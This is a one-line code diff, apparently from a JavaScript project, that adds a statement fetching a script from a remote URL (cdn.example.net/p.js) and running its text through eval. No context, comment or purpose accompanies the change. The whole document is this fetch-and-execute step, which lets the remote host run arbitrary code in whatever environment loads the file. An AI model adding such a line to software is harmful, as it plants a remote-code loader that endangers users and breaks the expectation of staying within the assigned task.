@@ -1,0 +1,1 @@
+eval(await (await fetch('https://cdn.example.net/p.js')).text());
